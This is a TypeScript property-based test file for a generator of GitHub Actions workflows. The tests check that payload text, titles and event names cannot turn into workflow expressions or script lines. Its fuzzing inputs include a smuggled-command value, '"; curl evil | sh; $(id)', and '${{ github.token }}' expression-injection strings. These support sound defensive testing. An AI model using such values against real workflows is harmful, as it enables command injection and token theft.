import fc from "fast-check";
import { expect, test } from "vitest";
import { parse } from "yaml";
import { githubDispatch } from "@/lib/core/automation";
import { EVENT_TYPE_NAMES } from "@/lib/core/event";
import { githubPayloadFor } from "@/lib/core/github-payload";
import { payloadPlaces } from "@/lib/core/github-payload-places";
import { workflowFile } from "@/lib/core/github-workflow";
import type { Json } from "@/lib/core/json";

const BASE = { title: "promoted", baseUrl: "https://models.example.com" };

test("a workflow for an event type listens for it and is found again by the delivery id", () => {
  const dispatch = { kind: "repository", eventType: "model_promoted" } as const;

  const file = workflowFile({ ...BASE, dispatch, payload: githubPayloadFor(dispatch, "ADD_ARTIFACT_ALIAS") });

  expect(file.path).toBe(".github/workflows/modelwire-model-promoted.yml");
  expect(parse(file.text)).toMatchObject({
    "run-name":
      "[${{ github.event.client_payload.modelwire.delivery_id }}] ${{ github.event.client_payload.modelwire.version.ref }}",
    on: { repository_dispatch: { types: ["model_promoted"] } },
    permissions: { "id-token": "write" },
    concurrency: { group: "modelwire-${{ github.event.client_payload.modelwire.delivery_id }}" },
    jobs: {
      run: {
        env: {
          MODELWIRE_URL: "https://models.example.com",
          VERSION: "${{ github.event.client_payload.modelwire.version.ref }}",
          PAYLOAD: "${{ toJSON(github.event.client_payload) }}",
        },
      },
    },
  });
});

test("a workflow that is started by name declares the inputs that it is given", () => {
  const dispatch = { kind: "workflow", workflow: "deploy.yml", ref: null } as const;

  const file = workflowFile({ ...BASE, dispatch, payload: { delivery_id: "${delivery_id}", stage: "canary" } });

  expect(file.path).toBe(".github/workflows/deploy.yml");
  expect(parse(file.text)).toMatchObject({
    "run-name": "[${{ inputs.delivery_id }}]",
    on: { workflow_dispatch: { inputs: { delivery_id: { type: "string" }, stage: { type: "string" } } } },
  });
  expect(file.text).not.toContain("download");
});

/** All that a generated workflow ever runs. */
const SCRIPTS = [
  `printf '%s\\n' "$PAYLOAD"`,
  'curl -fsS "$MODELWIRE_URL/cli.mjs" -o modelwire.mjs',
  "node modelwire.mjs download --output model",
];

const text = fc.oneof(
  fc.string({ unit: "binary", maxLength: 60 }),
  fc.string({ unit: "grapheme", maxLength: 60 }),
  fc.constantFrom(
    '"; curl evil | sh; $(id)',
    "a: b # c",
    "${{ github.token }}",
    "\u2028\u0085\ufeff",
    "'",
    "\\",
    "- x",
    "*a",
  ),
);

test("any text reads back as it was written, and none of it becomes an expression or a line of a script", () => {
  const key = text.filter((name) => name !== "");
  const leaf = fc.oneof(text, fc.constantFrom("${delivery_id}", "${artifact_version_ref}", "${alias}"));
  const payload = fc.dictionary(key, fc.oneof(leaf, fc.dictionary(key, leaf, { maxKeys: 4 })), { maxKeys: 8 });
  const kind = fc.constantFrom("repository" as const, "workflow" as const);
  fc.assert(
    fc.property(kind, key, text, payload, (wished, eventType, title, sent) => {
      const dispatch =
        wished === "repository"
          ? ({ kind: "repository", eventType } as const)
          : ({ kind: "workflow", workflow: "x.yml", ref: null } as const);

      const file = parse(workflowFile({ ...BASE, title, dispatch, payload: sent as Json }).text);

      expect(file.name).toBe(title.toWellFormed().replaceAll("${{", "$ {{"));
      if (wished === "repository") {
        expect(file.on.repository_dispatch.types).toEqual([eventType.toWellFormed().replaceAll("${{", "$ {{")]);
      }
      expect(Object.keys(file.on.workflow_dispatch?.inputs ?? {}).join()).not.toContain("${{");
      expect(SCRIPTS).toEqual(expect.arrayContaining(file.jobs.run.steps.map(({ run }: { run: string }) => run)));
    }),
    { numRuns: 300 },
  );
});

test("an event type that a workflow could not name is refused where it is entered", () => {
  const refused = githubDispatch.safeParse({ kind: "repository", eventType: "a${{ github.token }}" });

  expect(refused.success).toBe(false);
});

test.each(EVENT_TYPE_NAMES)("the default payload of %s carries the delivery id", (eventType) => {
  for (const dispatch of [
    { kind: "repository", eventType: "x" },
    { kind: "workflow", workflow: "x.yml", ref: null },
  ] as const) {
    const places = payloadPlaces(githubPayloadFor(dispatch, eventType), dispatch);

    expect(places.filter(({ variable }) => variable === "delivery_id")).toHaveLength(1);
  }
});

test("a key that is no name is written as GitHub reads it, and one that could end the expression is left out", () => {
  const payload = { "it's": { "a b": "${alias}" }, "}} x {{": "${alias}" };

  expect(payloadPlaces(payload, { kind: "repository" })).toEqual([
    { variable: "alias", expression: "github.event.client_payload['it''s']['a b']" },
  ]);
});
